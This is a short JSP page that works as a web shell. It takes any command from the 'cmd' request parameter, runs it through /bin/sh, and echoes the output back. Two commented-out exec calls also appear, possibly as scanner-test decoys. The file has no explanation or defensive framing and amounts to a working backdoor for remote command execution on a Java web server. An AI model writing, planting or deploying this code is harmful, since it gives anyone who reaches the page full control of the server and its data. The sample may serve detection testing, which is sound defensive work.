<%@ page import="java.io.*" %>
<%-- a JSP comment: Runtime.getRuntime().exec(request.getParameter("x")) --%>
<%
	String cmd = request.getParameter("cmd");
	// Runtime.getRuntime().exec(request.getParameter("y"));
	if (cmd != null) {
		Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", cmd});
		BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
		String line;
		while ((line = r.readLine()) != null) {
			out.println(line);
		}
	}
%>
